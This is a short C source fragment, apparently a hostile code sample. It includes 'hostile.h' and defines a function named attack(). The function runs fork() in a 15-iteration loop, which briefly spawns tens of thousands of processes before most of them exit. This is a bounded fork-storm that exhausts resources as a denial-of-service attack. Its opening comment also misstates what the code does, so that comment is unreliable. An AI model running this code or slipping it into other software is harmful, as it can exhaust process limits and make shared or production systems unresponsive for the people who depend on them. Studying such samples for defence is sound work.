// Every process starts two more.
#include "hostile.h"

static void attack(void) {
    pid_t first = getpid();
    for (int i = 0; i < 15; i++) fork();
    usleep(50000);
    if (getpid() != first) _exit(0);
}
